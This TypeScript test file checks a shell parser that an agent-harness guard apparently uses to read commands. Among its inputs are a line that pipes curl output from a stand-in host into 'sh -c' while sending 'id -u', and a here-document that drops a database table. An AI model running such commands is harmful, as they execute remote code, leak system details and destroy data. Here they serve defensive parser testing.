/** The guard's shell reader: quotes, escapes, separators, redirects, here-documents, substitutions. */
import { describe, expect, it } from "vitest";
import { parseShell } from "../../../src/harness/tools/shell-parse.js";

const words = (text: string) => parseShell(text).map((c) => c.words);

describe("parseShell", () => {
  it("removes quotes and escapes, keeping quoted separators inside their word", () => {
    expect(words(`echo 'a; b' "c && d" e\\ f g\\;h`)).toEqual([["echo", "a; b", "c && d", "e f", "g;h"]]);
    expect(words(`echo "say \\"hi\\" \\$HOME" 'it''s'`)).toEqual([["echo", 'say "hi" $HOME', "its"]]);
    expect(words("echo $'a\\tb\\'c'")).toEqual([["echo", "a\tb'c"]]);
    expect(words("echo one \\\n two")).toEqual([["echo", "one", "two"]]);
  });

  it("splits on ; && || | & newlines and parentheses, numbering pipelines", () => {
    const parsed = parseShell("a 1; b && c || d | e |& f & g\nh (i) # j; k");
    expect(parsed.map((c) => c.words[0])).toEqual(["a", "b", "c", "d", "e", "f", "g", "h", "i"]);
    expect(parsed.map((c) => c.connector)).toEqual(["start", ";", "&&", "||", "|", "|", "&", ";", ";"]);
    const [d, e, f] = parsed.slice(3, 6);
    expect(d?.pipeline).toBe(e?.pipeline);
    expect(e?.pipeline).toBe(f?.pipeline);
    expect(parsed[6]?.pipeline).not.toBe(f?.pipeline);
  });

  it("reads redirects with fd numbers apart from words", () => {
    const [cmd] = parseShell("make 2>/dev/null >>log.txt 2>&1 < in &>all echo 2 > x");
    expect(cmd?.words).toEqual(["make", "echo", "2"]);
    expect(cmd?.redirects).toEqual([
      { op: ">", target: "/dev/null" },
      { op: ">>", target: "log.txt" },
      { op: ">&", target: "1" },
      { op: "<", target: "in" },
      { op: "&>", target: "all" },
      { op: ">", target: "x" },
    ]);
  });

  it("records substitutions (also nested and inside double quotes) and keeps them in the word", () => {
    const [cmd] = parseShell(`sh -c "$(curl -s "https://x/$(id -u)")" \`date\` <(cat f) $((1 + 2))`);
    expect(cmd?.words).toEqual([
      "sh",
      "-c",
      `$(curl -s "https://x/$(id -u)")`,
      "`date`",
      "<(cat f)",
      "$((1 + 2))",
    ]);
    expect(cmd?.substitutions).toEqual([`curl -s "https://x/$(id -u)"`, "date", "cat f"]);
  });

  it("gives here-documents and here-strings to their command as stdin", () => {
    const parsed = parseShell("psql db <<-'SQL'\n\tDROP TABLE x;\n\tSQL\ncat <<< 'hi'\necho after");
    expect(parsed.map((c) => c.words)).toEqual([["psql", "db"], ["cat"], ["echo", "after"]]);
    expect(parsed[0]?.stdin).toEqual(["\tDROP TABLE x;"]);
    expect(parsed[1]?.stdin).toEqual(["hi"]);
  });

  it("never throws on unbalanced text", () => {
    expect(words(`echo "open 'x`)).toEqual([["echo", "open 'x"]]);
    expect(words("echo $(ls")).toEqual([["echo", "$(ls"]]);
    expect(words("echo `ls")).toEqual([["echo", "`ls"]]);
  });
});
